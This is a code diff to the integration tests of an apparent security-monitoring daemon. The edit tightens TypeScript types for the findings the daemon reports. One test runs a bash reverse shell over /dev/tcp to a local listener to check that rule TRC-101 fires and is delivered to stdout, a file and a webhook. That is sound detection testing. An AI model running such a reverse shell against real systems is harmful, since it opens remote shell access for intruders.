@@ -28,8 +28,8 @@ interface Daemon {
 function startDaemon(args: string[], env: NodeJS.ProcessEnv = process.env): Daemon {
   const child = spawn(process.execPath, [CLI, "run", ...args], { stdio: ["ignore", "pipe", "pipe"], env });
   let stdout = "", stderr = "";
-  child.stdout!.on("data", (d) => (stdout += d));
-  child.stderr!.on("data", (d) => (stderr += d));
+  child.stdout.on("data", (d) => (stdout += d));
+  child.stderr.on("data", (d) => (stderr += d));
   const exited = new Promise<number | null>((resolve) => child.on("exit", (code) => resolve(code)));
   return {
     child,
@@ -64,7 +64,14 @@ async function poll<T>(read: () => T | undefined, timeoutMs = 5_000): Promise<T>
   }
 }
 
-const jsonLines = (text: string) => text.split("\n").filter(Boolean).map((line) => JSON.parse(line) as Record<string, any>);
+/** A finding as the daemon prints it; only the fields these tests pick findings by are typed. */
+interface FindingJson {
+  rule?: { id?: string };
+  finding?: { Port?: string };
+  [field: string]: unknown;
+}
+
+const jsonLines = (text: string) => text.split("\n").filter(Boolean).map((line) => JSON.parse(line) as FindingJson);
 
 describe.runIf(tier.run)("kernel: sockeye run as a service", () => {
   const dir = mkdtempSync(join(tmpdir(), "sockeye-service-"));
@@ -112,10 +119,10 @@ describe.runIf(tier.run)("kernel: sockeye run as a service", () => {
       const catcher = await tcpListener("127.0.0.1", "exit\n");
       await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${catcher.port} 0>&1`]);
       await catcher.close();
-      const isOurs = (f: Record<string, any>) => f.rule?.id === "TRC-101" && f.finding?.Port === String(catcher.port);
+      const isOurs = (f: FindingJson) => f.rule?.id === "TRC-101" && f.finding?.Port === String(catcher.port);
       const onStdout = await poll(() => jsonLines(daemon.stdout()).find(isOurs));
       const inFile = await poll(() => jsonLines(readFileSync(findingsFile, "utf8")).find(isOurs));
-      const viaWebhook = await poll(() => posted.flatMap((p) => p.body as Record<string, any>[]).find(isOurs));
+      const viaWebhook = await poll(() => posted.flatMap((p) => p.body as FindingJson[]).find(isOurs));
       expect(inFile).toEqual(onStdout);
       expect(viaWebhook).toEqual(onStdout);
       expect(posted[0]!.headers["authorization"]).toBe("Bearer test-token");
@@ -147,7 +154,7 @@ describe.runIf(tier.run)("kernel: sockeye run as a service", () => {
       const reloaded = await poll(() => markerFindings()[0]);
       expect(reloaded).toMatchObject({ rule: { id: "test-reload-marker", severity: "low" }, process: { name: "true", args: ["/usr/bin/true", marker] } });
       // The reload replaced the outputs: what the first webhook output delivered still counts.
-      await poll(() => posted.flatMap((p) => p.body as Record<string, any>[]).find((f) => f.rule?.id === "test-reload-marker"));
+      await poll(() => posted.flatMap((p) => p.body as FindingJson[]).find((f) => f.rule?.id === "test-reload-marker"));
       const written = async () =>
         Number(/^sockeye_output_written_total\{output="webhook"\} (\d+)$/m.exec(await (await fetch(metricsUrl)).text())?.[1]);
       expect(await written()).toBe(posted.flatMap((p) => p.body as unknown[]).length);
@@ -176,7 +183,7 @@ describe.runIf(tier.run)("kernel: sockeye run as a service", () => {
       "for _ in range(2): print(s.recv(4096).decode().replace(chr(10),' '),flush=True)",
     ].join("\n")], { stdio: ["ignore", "pipe", "inherit"] });
     let heard = "";
-    listener.stdout!.on("data", (d) => (heard += d));
+    listener.stdout.on("data", (d) => (heard += d));
     await poll(() => (heard.includes("bound") ? true : undefined));
     const daemon = startDaemon([], { ...process.env, NOTIFY_SOCKET: socketPath });
     try {
